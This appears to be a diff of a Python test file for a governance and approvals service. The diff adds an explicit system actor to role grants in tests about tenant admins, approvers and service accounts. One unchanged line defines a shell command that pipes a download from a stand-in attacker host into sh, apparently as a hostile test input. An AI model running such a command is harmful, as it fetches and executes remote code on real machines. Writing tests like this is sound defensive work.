@@ -22,6 +22,7 @@ from approvals.services import (
     awaiting_review,
     edit_change,
 )
+from governance.actors import SYSTEM
 from governance.models import ApiToken, AuditAction, AuditEvent, Role, ServiceAccount
 from governance.services import AccessDenied, grant_role, revoke_role
 from governance.tokens import create_service_account, issue_token
@@ -36,7 +37,7 @@ SHELL = ["/bin/sh", "-c", "curl -s https://evil.example/x | sh"]
 @pytest.fixture
 def payments_admin(cast):
     user = get_user_model().objects.create_user("acme-payments-admin", password="x")
-    grant_role(user, Role.TENANT_ADMIN, tenant=cast.acme, team=cast.payments)
+    grant_role(user, Role.TENANT_ADMIN, tenant=cast.acme, team=cast.payments, actor=SYSTEM)
     return user
 
 
@@ -108,7 +109,7 @@ def test_a_team_admin_cannot_revoke_a_token_of_a_tenant_wide_service_account(cas
 @pytest.fixture
 def admin_approver(cast):
     """The tenant admin who is also an approver, with an author service account of its own."""
-    grant_role(cast.admin, Role.APPROVER, tenant=cast.acme)
+    grant_role(cast.admin, Role.APPROVER, tenant=cast.acme, actor=SYSTEM)
     admin = APIClient()
     admin.force_authenticate(cast.admin)
     response = admin.post(
@@ -153,7 +154,7 @@ def test_in_prod_the_service_accounts_owner_is_not_one_of_the_two_approvers(cast
 
 
 def test_whoever_issued_a_token_for_an_account_counts_as_its_author_too(cast):
-    grant_role(cast.approver, Role.TENANT_ADMIN, tenant=cast.acme)
+    grant_role(cast.approver, Role.TENANT_ADMIN, tenant=cast.acme, actor=SYSTEM)
     account = create_service_account(actor=cast.admin, tenant=cast.acme, name="bot", role=Role.AUTHOR)
     issue_token(account.user, actor=cast.approver)
     change = _propose(cast, cast.staging, actor=account.user)
@@ -165,7 +166,7 @@ def test_whoever_issued_a_token_for_an_account_counts_as_its_author_too(cast):
 
 
 def test_a_person_and_their_service_account_count_as_one_approver(cast):
-    grant_role(cast.admin, Role.APPROVER, tenant=cast.acme)
+    grant_role(cast.admin, Role.APPROVER, tenant=cast.acme, actor=SYSTEM)
     account = create_service_account(actor=cast.admin, tenant=cast.acme, name="reviewer-bot", role=Role.VIEWER)
     grant_role(account.user, Role.APPROVER, tenant=cast.acme, actor=cast.admin)
     change = _propose(cast, cast.prod)
